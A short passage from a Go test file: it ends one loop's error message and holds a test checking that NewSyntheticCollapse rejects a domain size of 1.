				s, st.Idx[0], st.Idx[1], s/d, s%d)
		}
	}
}

func TestNewSyntheticCollapseRejectsTinyDomains(t *testing.T) {
	if _, err := NewSyntheticCollapse(1); err == nil {
		t.Fatal("d=1 should be rejected")
	}
}
